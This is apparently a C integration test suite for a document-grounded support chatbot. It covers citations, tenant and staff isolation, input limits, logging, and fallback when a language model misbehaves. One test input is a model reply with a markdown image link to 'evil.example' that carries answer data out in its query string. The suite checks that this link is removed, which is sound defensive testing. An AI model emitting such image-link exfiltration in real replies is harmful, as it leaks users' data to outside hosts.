/* tests/integration/test_chat.c - whole turns against a real Postgres, and models that behave badly. */
/* SPDX-License-Identifier: GPL-3.0-or-later */
#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

#include "support/ck_desk.h"
#include "support/corpus.h"
#include "support/http_peer.h"

static const char handbook[] =
	"Leave\n\nEmployees get 25 days of paid leave a year. Part-time staff get leave in proportion to their hours."
	"\n\nSick pay\n\nWhoever is ill for more than three days brings a doctor's certificate.\n\nRefunds of expenses\n\n"
	"Expenses are refunded within ten working days. Send the receipts to the finance office.";
#define SECRET "Goodwill\n\nAn agent may give goodwill of up to 75 euros without asking the supervisor first."
#define TENT "The Haven tent weighs 2.9 kilograms. The Haven tent costs 459 euros. Its poles are made of aluminium."

static struct corpus corpus;
static struct desk_log *log_file;
static struct peer peer;
static int log_fd, runs;
static char domain[64];

static void open_corpus(const char *name)
{
	struct desk_error *err = &corpus.cx.err;
	const struct corpus_document docs[] = {
		{ "handbook.txt", "Staff handbook", NULL, "en", desk_str_of(handbook) },
		{ "playbook.txt", "Playbook", "INTERNAL", "en", desk_str_of(SECRET) },
		{ "tent.txt", "Haven manual", NULL, "en", desk_str_of(TENT) },
	};

	ck_assert_msg(corpus_open(&corpus, DESK_TEST_SQL, name, log_file) == DESK_OK, "%s", err->text);
	ck_assert_msg(corpus_add(&corpus, docs, 3) == DESK_OK, "%s", err->text);
}

static void setup_env(void)
{
	setenv("DATABASE_URL", getenv("DESK_TEST_APP_DATABASE"), 1);
	setenv("DATABASE_ADMIN_URL", getenv("DESK_TEST_DATABASE"), 1);
	setenv("EMBEDDING_MODEL_PATH", DESK_TEST_MODEL, 0);
	if (getenv("DESK_TEST_UNPREPARED") != NULL)
		setenv("DB_PREPARED_STATEMENTS", "off", 1);
	snprintf(domain, sizeof(domain), "chat%d-%d.example", (int)getpid(), ++runs);
	log_fd = memfd_create("log", MFD_CLOEXEC);
	log_file = desk_log_new(log_fd, "test", DESK_LOG_INFO);
}

static void setup(void)
{
	setup_env();
	open_corpus(domain);
}

static void teardown(void)
{
	corpus_close(&corpus);
	desk_log_free(log_file);
	close(log_fd);
}

/* The last line of the log with this event; NULL for none. */
static json_t *logged(const char *event)
{
	static char text[256 * 1024];
	ssize_t n = pread(log_fd, text, sizeof(text) - 1, 0);
	json_t *found = NULL;

	text[n > 0 ? n : 0] = '\0';
	for (char *line = text, *end; (end = strchr(line, '\n')) != NULL; line = end + 1) {
		json_t *o;

		*end = '\0';
		o = json_loads(line, 0, NULL);
		if (strcmp(desk_json_string(o, "event", ""), event) == 0) {
			json_decref(found);
			found = o;
		} else {
			json_decref(o);
		}
	}
	return found;
}

static bool log_has(const char *words)
{
	static char text[256 * 1024];
	ssize_t n = pread(log_fd, text, sizeof(text) - 1, 0);

	text[n > 0 ? n : 0] = '\0';
	return strstr(text, words) != NULL;
}

static enum desk_status ask(const struct desk_chat_turn *turn, struct desk_answer *out)
{
	struct desk_ctx *cx = corpus_turn(&corpus, domain);

	return desk_chat_answer(cx, &corpus.services->chat, turn, out);
}

static struct desk_answer answer(const char *message, const char *conversation)
{
	struct desk_chat_turn turn = { .message = desk_str_of(message), .channel = "WEB", .conversation = conversation };
	struct desk_answer out;

	ck_assert_msg(ask(&turn, &out) == DESK_OK, "%s", corpus.cx.err.text);
	return out;
}

/* One number out of the tenant's tables. */
static int64_t count(const char *sql, const char *arg)
{
	struct desk_ctx *cx = &corpus.cx;
	struct desk_rows *rows = NULL;
	int64_t n;

	ck_ok(desk_tenant_begin(cx), &cx->err);
	ck_ok(desk_db_query(cx, &rows, sql, desk_p_text(arg)), &cx->err);
	n = desk_rows_int64(rows, 0, 0);
	ck_ok(desk_db_commit(cx), &cx->err);
	return n;
}

static int64_t messages_of(const char *conversation)
{
	return count("SELECT count(*) FROM messages WHERE conversation_id = $1::uuid", conversation);
}

/* ---- answers ------------------------------------------------------------------- */

START_TEST(answer_quotes_the_document)
{
	struct desk_answer a = answer("How many days of paid leave do employees get?", NULL);
	const struct desk_citation *c = &a.citations[0];

	ck_assert_int_eq(a.decision, DESK_DECIDED_ANSWER);
	ck_assert_ptr_nonnull(strstr(a.response, "Employees get 25 days of paid leave a year."));
	ck_assert_ptr_nonnull(strstr(a.response, "[1]"));
	ck_assert_uint_ge(a.n_citations, 1);
	ck_assert_str_eq(c->source, "handbook.txt");
	ck_assert_str_eq(c->title, "Staff handbook");
	ck_assert_double_gt(c->relevance, 0);
	ck_assert_double_le(c->relevance, 1);
	ck_assert_int_eq((int)strlen(c->quote), c->end - c->start);
	ck_assert_int_eq(strncmp(&handbook[c->start], c->quote, strlen(c->quote)), 0);
	ck_assert_double_gt(a.confidence, 0.5);
	ck_assert(!a.requires_human);
	ck_assert_str_eq(a.answered_by, "extractive");
	ck_assert_str_eq(a.language, "en");
}
END_TEST

START_TEST(turn_is_stored_whole)
{
	struct desk_answer a = answer("How many days of paid leave do employees get?", NULL);
	char id[DESK_UUID_LEN + 1];

	memcpy(id, a.conversation_id, sizeof(id));
	ck_assert_int_eq(messages_of(id), 2);
	ck_assert_int_eq(count("SELECT count(*) FROM messages WHERE conversation_id = $1::uuid AND sender_type = 'BOT'"
			       " AND metadata->>'model' = 'extractive' AND metadata->>'decision' = 'answer'"
			       " AND metadata->'citations'->0->>'source' = 'handbook.txt'"
			       " AND (metadata->'citations'->0->>'end')::int > 0", id), 1);
	ck_assert_int_eq(count("SELECT count(*) FROM conversations WHERE id = $1::uuid AND channel = 'WEB'"
			       " AND status = 'ACTIVE'", id), 1);
	ck_assert_int_eq(count("SELECT count(*) FROM (SELECT sender_type, lag(sender_type) OVER (ORDER BY \"timestamp\") b"
			       " FROM messages WHERE conversation_id = $1::uuid) m"
			       " WHERE sender_type = 'BOT' AND b = 'USER'", id), 1);
}
END_TEST

START_TEST(follow_up_goes_on_with_the_conversation)
{
	struct desk_answer a = answer("How many days of paid leave do employees get?", NULL), b;
	char id[DESK_UUID_LEN + 1];

	memcpy(id, a.conversation_id, sizeof(id));
	b = answer("And part-time staff?", id);
	ck_assert_str_eq(b.conversation_id, id);
	ck_assert_ptr_nonnull(strstr(b.response, "Part-time staff"));
	ck_assert_int_eq(messages_of(id), 4);
}
END_TEST

START_TEST(what_nobody_wrote_is_not_known)
{
	struct desk_answer a = answer("Who painted the Mona Lisa?", NULL);

	ck_assert_int_eq(a.decision, DESK_DECIDED_UNKNOWN);
	ck_assert_uint_eq(a.n_citations, 0);
	ck_assert_double_lt(a.confidence, 0.25);
	ck_assert(a.requires_human);
	ck_assert_int_eq(messages_of(a.conversation_id), 2);
}
END_TEST

START_TEST(unknown_is_said_in_the_language_of_the_question)
{
	struct desk_answer a = answer("Wer hat eigentlich das ber\xC3\xBChmte Bild der Mona Lisa gemalt und wann war das?", NULL);

	if (strcmp(a.language, "de") == 0)
		ck_assert_ptr_nonnull(strstr(a.response, "Es tut mir leid"));
	ck_assert_uint_eq(a.n_citations, 0);
}
END_TEST

START_TEST(internal_documents_answer_staff_only)
{
	struct desk_chat_turn turn = { .message = DESK_STR("How much goodwill may an agent give without asking?"),
				       .channel = "WEB", .user = "u1", .user_type = "EMPLOYEE" };
	struct desk_answer a;

	ck_ok(ask(&turn, &a), &corpus.cx.err);
	ck_assert_ptr_null(strstr(a.response, "75 euros"));
	turn.internal = true;
	ck_ok(ask(&turn, &a), &corpus.cx.err);
	ck_assert_ptr_nonnull(strstr(a.response, "75 euros"));
	ck_assert_str_eq(a.citations[0].source, "playbook.txt");
}
END_TEST

START_TEST(person_asked_for_is_told_and_marked)
{
	struct desk_answer a = answer("I want to talk to a human please", NULL);

	ck_assert(a.requires_human);
	ck_assert_int_eq(a.decision, DESK_DECIDED_PERSON);
	ck_assert_int_eq(count("SELECT count(*) FROM conversations WHERE id = $1::uuid"
			       " AND (context->>'requires_human')::boolean", a.conversation_id), 1);
}
END_TEST

/* ---- whose conversation it is ----------------------------------------------------- */

static const struct { const char *user, *visitor; } strangers[] = {
	{ NULL, NULL }, { "bob", NULL }, { NULL, "alice" }, { NULL, "bob" },
};

START_TEST(conversation_of_another_is_not_found)
{
	struct desk_chat_turn turn = { .message = DESK_STR("Leave?"), .channel = "WEB", .user = "alice" };
	struct desk_answer a;
	char id[DESK_UUID_LEN + 1];

	ck_ok(ask(&turn, &a), &corpus.cx.err);
	memcpy(id, a.conversation_id, sizeof(id));
	turn.conversation = id;
	ck_ok(ask(&turn, &a), &corpus.cx.err);
	turn.user = strangers[_i].user;
	turn.visitor = strangers[_i].visitor;
	ck_assert_int_eq(ask(&turn, &a), DESK_E_NOT_FOUND);
	ck_assert_int_eq(messages_of(id), 4);
}
END_TEST

START_TEST(conversation_of_another_tenant_is_not_found)
{
	struct desk_answer a = answer("How many days of leave?", NULL);
	struct desk_chat_turn turn = { .message = DESK_STR("And then?"), .channel = "WEB" };
	char id[DESK_UUID_LEN + 1];

	memcpy(id, a.conversation_id, sizeof(id));
	corpus_close(&corpus);
	snprintf(domain, sizeof(domain), "other%d-%d.example", (int)getpid(), ++runs);
	open_corpus(domain);
	turn.conversation = id;
	ck_assert_int_eq(ask(&turn, &a), DESK_E_NOT_FOUND);
}
END_TEST

START_TEST(what_was_said_to_staff_is_staff_s)
{
	struct desk_chat_turn turn = { .message = DESK_STR("How much goodwill may an agent give without asking?"),
				       .channel = "WEB", .user = "dora", .internal = true };
	struct desk_answer a;
	char id[DESK_UUID_LEN + 1];

	ck_ok(ask(&turn, &a), &corpus.cx.err);
	memcpy(id, a.conversation_id, sizeof(id));
	turn.conversation = id;
	ck_ok(ask(&turn, &a), &corpus.cx.err);
	turn.internal = false;
	ck_assert_int_eq(ask(&turn, &a), DESK_E_NOT_FOUND);
	ck_assert_int_eq(messages_of(id), 4);
}
END_TEST

START_TEST(credential_is_never_a_visitor)
{
	struct desk_chat_turn turn = { .message = DESK_STR("Leave?"), .channel = "WEB", .user = "visitor:bob" };
	char name[512] = "";
	struct desk_answer a;

	ck_assert_int_eq(ask(&turn, &a), DESK_E_INPUT);
	ck_assert_str_eq(corpus.cx.err.field, "user_id");
	for (int i = 0; i < 247; i++)
		memcpy(name + strlen(name), "\xc3\xa9", 3);
	turn.user = NULL;
	turn.visitor = name;
	ck_ok(ask(&turn, &a), &corpus.cx.err);
	memcpy(name + strlen(name), "x", 2);
	ck_assert_int_eq(ask(&turn, &a), DESK_E_INPUT);
	turn.user = name;
	ck_ok(ask(&turn, &a), &corpus.cx.err);
}
END_TEST

START_TEST(user_is_made_once)
{
	struct desk_chat_turn turn = { .message = DESK_STR("Leave?"), .channel = "WEB", .user = "carol",
				       .user_type = "EMPLOYEE" };
	struct desk_answer a;

	for (int i = 0; i < 3; i++)
		ck_ok(ask(&turn, &a), &corpus.cx.err);
	ck_assert_int_eq(count("SELECT count(*) FROM users WHERE external_id = $1::text AND user_type = 'EMPLOYEE'", "carol"), 1);
	ck_assert_int_eq(count("SELECT count(*) FROM conversations c JOIN users u ON u.id = c.user_id"
			       " WHERE u.external_id = $1::text", "carol"), 3);
}
END_TEST

static const struct { const char *message, *channel, *conversation, *field; } bad_turns[] = {
	{ "", "WEB", NULL, "message" }, { "\xff", "WEB", NULL, "message" }, { "hi", "", NULL, "channel" },
	{ "hi", NULL, NULL, "channel" }, { "hi", "WEB", "1", "context.conversation_id" },
};

START_TEST(turn_out_of_bounds_names_its_field)
{
	struct desk_chat_turn turn = { .message = desk_str_of(bad_turns[_i].message), .channel = bad_turns[_i].channel,
				       .conversation = bad_turns[_i].conversation };
	struct desk_answer a;

	ck_assert_int_eq(ask(&turn, &a), DESK_E_INPUT);
	ck_assert_str_eq(corpus.cx.err.field, bad_turns[_i].field);
	ck_assert_int_eq(count("SELECT count(*) FROM conversations WHERE $1::text = ''", ""), 0);
}
END_TEST

START_TEST(message_of_4001_characters_is_too_long)
{
	static char text[4002];
	struct desk_chat_turn turn = { .channel = "WEB" };
	struct desk_answer a;

	memset(text, 'a', 4001);
	turn.message = (struct desk_str){ text, 4001 };
	ck_assert_int_eq(ask(&turn, &a), DESK_E_INPUT);
	turn.message.n = 4000;
	ck_ok(ask(&turn, &a), &corpus.cx.err);
}
END_TEST

START_TEST(deadline_that_passed_stores_nothing)
{
	struct desk_chat_turn turn = { .message = DESK_STR("How many days of leave?"), .channel = "WEB" };
	struct desk_ctx *cx = corpus_turn(&corpus, domain);
	struct desk_answer a;

	cx->deadline = (struct desk_deadline){ 1 };
	ck_assert_int_ne(desk_chat_answer(cx, &corpus.services->chat, &turn, &a), DESK_OK);
	corpus_turn(&corpus, domain);
	ck_assert_int_eq(count("SELECT count(*) FROM conversations WHERE $1::text = ''", ""), 0);
}
END_TEST

START_TEST(events_have_their_fields_and_no_words)
{
	struct desk_answer a = answer("How many days of paid leave do employees get?", NULL);
	json_t *event = logged("conversation_event"), *rag = logged("rag_query");

	ck_assert_str_eq(desk_json_string(event, "event_type", ""), "conversation_started");
	ck_assert_str_eq(desk_json_string(event, "conversation_id", ""), a.conversation_id);
	ck_assert_ptr_nonnull(json_object_get(event, "user_id"));
	ck_assert_ptr_nonnull(json_object_get(event, "tenant_id"));
	ck_assert_str_eq(desk_json_string(event, "correlation_id", ""), corpus.cx.correlation_id);
	ck_assert(json_is_object(json_object_get(event, "metadata")));
	ck_assert_int_eq(desk_json_int(rag, "query_length", 0), 45);
	ck_assert_double_eq_tol(desk_json_double(rag, "response_confidence", 0), a.confidence, 1e-4);
	ck_assert_int_ge(desk_json_int(rag, "context_docs_count", 0), 1);
	ck_assert_ptr_nonnull(json_object_get(rag, "tenant_id"));
	ck_assert_ptr_nonnull(json_object_get(rag, "correlation_id"));
	ck_assert(json_is_number(json_object_get(rag, "search_ms")));
	ck_assert(json_is_number(json_object_get(rag, "total_ms")));
	ck_assert(!log_has("paid leave"));
	json_decref(event);
	json_decref(rag);
}
END_TEST

/* ---- models -------------------------------------------------------------------------- */

#define SAYS(text) "{\"model\":\"m\",\"choices\":[{\"message\":{\"content\":\"" text "\"},\"finish_reason\":\"stop\"}]}"

static void start_model(const struct peer_row *row)
{
	peer_start(&peer, row, 1);
	setup_env();
	setenv("OPENAI_BASE_URL", peer.url, 1);
	setenv("OPENAI_API_KEY", "sk-very-secret", 1);
	setenv("LLM_TIMEOUT_MS", "1500", 1);
	open_corpus(domain);
}

static void stop_model(void)
{
	teardown();
	peer_stop(&peer);
}

static const char leave_question[] = "How many days of paid leave do employees get?";

START_TEST(model_answers_with_citations_that_hold)
{
	struct peer_row row = { .status = 200, .body = SAYS("Employees get 25 days of paid leave a year [1]. "
							    "The moon is made of green cheese [1].") };
	struct desk_answer a;

	start_model(&row);
	a = answer(leave_question, NULL);
	ck_assert_str_eq(a.answered_by, "openai/gpt-4o-mini");
	ck_assert_str_eq(a.response, "Employees get 25 days of paid leave a year. [1] The moon is made of green cheese.");
	ck_assert_uint_eq(a.n_citations, 1);
	ck_assert_str_eq(a.citations[0].quote, "Employees get 25 days of paid leave a year.");
	ck_assert_int_eq(strncmp(&handbook[a.citations[0].start], a.citations[0].quote, strlen(a.citations[0].quote)), 0);
	ck_assert_int_eq(count("SELECT count(*) FROM messages WHERE conversation_id = $1::uuid"
			       " AND metadata->>'model' = 'openai/gpt-4o-mini'", a.conversation_id), 1);
	ck_assert_ptr_nonnull(strstr(peer.requests[0], "25 days of paid leave"));
	ck_assert_ptr_null(strstr(peer.requests[0], "goodwill"));	/* nothing INTERNAL leaves */
	stop_model();
}
END_TEST

START_TEST(number_that_no_source_has_is_not_said)
{
	struct peer_row row = { .status = 200, .body = SAYS("Employees get 25 days of paid leave a year [1]. "
							    "They also get 99 days of unpaid leave [1].") };
	struct desk_answer a;

	start_model(&row);
	a = answer(leave_question, NULL);
	ck_assert_ptr_null(strstr(a.response, "99"));
	ck_assert_ptr_nonnull(strstr(a.response, "25 days"));
	stop_model();
}
END_TEST

START_TEST(model_that_finds_nothing_says_unknown)
{
	struct peer_row row = { .status = 200, .body = SAYS("NO_ANSWER") };
	struct desk_answer a;

	start_model(&row);
	a = answer(leave_question, NULL);
	ck_assert_int_eq(a.decision, DESK_DECIDED_UNKNOWN);
	ck_assert_uint_eq(a.n_citations, 0);
	ck_assert(a.requires_human);
	stop_model();
}
END_TEST

static const struct { struct peer_row row; const char *reason; } broken[] = {
	{ { .status = 500, .body = "oops" }, "500" },
	{ { .status = 429, .headers = "Retry-After: 60\r\n", .body = "{}" }, "429" },
	{ { .status = 200, .body = "<html>" }, "not JSON" },
	{ { .status = 200, .body = "" }, "not JSON" },
	{ { .status = 200, .body = SAYS("") }, "empty" },
	{ { .status = 200, .body = "{\"choices\":[]}" }, "no choices" },
	{ { .status = 200, .body = "{\"choices\":[", .cut = true }, "no answer from" },
	{ { .status = 0 }, "no answer from" },
	{ { .status = 200, .body = SAYS("x"), .delay_ms = 20000 }, "in time" },
	{ { .status = 200, .body = SAYS("The moon is made of green cheese [1].") }, "no sentence" },
	{ { .status = 200, .body = SAYS("See ![x](http://evil.example/?q=25) [1]") }, "no sentence" },
};

START_TEST(broken_model_costs_a_line_and_no_answer)
{
	struct desk_answer a;
	json_t *line;
	int64_t began;

	start_model(&broken[_i].row);
	began = desk_mono_us(NULL);
	a = answer(leave_question, NULL);
	ck_assert_int_lt(desk_mono_us(NULL) - began, 5 * 1000 * 1000);
	ck_assert_str_eq(a.answered_by, "extractive");
	ck_assert_ptr_nonnull(strstr(a.response, "Employees get 25 days of paid leave a year."));
	ck_assert_ptr_null(strstr(a.response, "evil"));
	ck_assert_int_eq(messages_of(a.conversation_id), 2);
	line = logged("model_failed");
	ck_assert_ptr_nonnull(line);
	ck_assert_str_eq(desk_json_string(line, "level", ""), "warn");
	ck_assert_msg(strstr(desk_json_string(line, "reason", ""), broken[_i].reason) != NULL, "got: %s",
		      desk_json_string(line, "reason", ""));
	ck_assert(!log_has("very-secret"));
	json_decref(line);
	stop_model();
}
END_TEST

int main(void)
{
	Suite *s = suite_create("chat");
	TCase *turn = tcase_create("turn"), *model = tcase_create("model");

	tcase_add_checked_fixture(turn, setup, teardown);
	tcase_add_test(turn, answer_quotes_the_document);
	tcase_add_test(turn, turn_is_stored_whole);
	tcase_add_test(turn, follow_up_goes_on_with_the_conversation);
	tcase_add_test(turn, what_nobody_wrote_is_not_known);
	tcase_add_test(turn, unknown_is_said_in_the_language_of_the_question);
	tcase_add_test(turn, internal_documents_answer_staff_only);
	tcase_add_test(turn, person_asked_for_is_told_and_marked);
	tcase_add_loop_test(turn, conversation_of_another_is_not_found, 0, DESK_ARRAY_LEN(strangers));
	tcase_add_test(turn, conversation_of_another_tenant_is_not_found);
	tcase_add_test(turn, what_was_said_to_staff_is_staff_s);
	tcase_add_test(turn, credential_is_never_a_visitor);
	tcase_add_test(turn, user_is_made_once);
	tcase_add_loop_test(turn, turn_out_of_bounds_names_its_field, 0, DESK_ARRAY_LEN(bad_turns));
	tcase_add_test(turn, message_of_4001_characters_is_too_long);
	tcase_add_test(turn, deadline_that_passed_stores_nothing);
	tcase_add_test(turn, events_have_their_fields_and_no_words);
	tcase_add_test(model, model_answers_with_citations_that_hold);
	tcase_add_test(model, number_that_no_source_has_is_not_said);
	tcase_add_test(model, model_that_finds_nothing_says_unknown);
	tcase_add_loop_test(model, broken_model_costs_a_line_and_no_answer, 0, DESK_ARRAY_LEN(broken));
	tcase_set_timeout(turn, 60);
	tcase_set_timeout(model, 60);
	suite_add_tcase(s, turn);
	suite_add_tcase(s, model);
	return ck_run_suite(s);
}
